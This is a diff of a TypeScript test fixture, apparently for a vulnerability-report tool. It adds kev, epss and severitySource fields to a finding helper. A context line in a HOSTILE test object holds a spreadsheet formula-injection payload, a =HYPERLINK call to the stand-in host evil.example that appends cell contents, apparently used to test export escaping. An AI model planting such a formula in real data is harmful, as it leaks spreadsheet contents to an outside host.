@@ -18,7 +18,7 @@ export const HOSTILE = {
   package: '=HYPERLINK("http://evil.example/?"&A1,"x")',
 };
 
-function finding(f: Partial<ReportFinding> & Pick<ReportFinding, 'project' | 'package' | 'version' | 'groupId' | 'severity'>): ReportFinding {
+function finding(f: Partial<Omit<ReportFinding, 'kev' | 'epss'>> & Pick<Partial<ReportFinding>, 'kev' | 'epss'> & Pick<ReportFinding, 'project' | 'package' | 'version' | 'groupId' | 'severity'>): ReportFinding {
   return {
     id: 0,
     ecosystem: 'npm',
@@ -38,6 +38,9 @@ function finding(f: Partial<ReportFinding> & Pick<ReportFinding, 'project' | 'pa
     targets: ['yarn.lock'],
     reason: [],
     acceptance: null,
+    severitySource: null,
+    kev: null,
+    epss: null,
     projectUrl: `https://${f.project.replace(/@main$/, '')}`,
     maintainers: ['dev@acme.example'],
     upgrade: null,
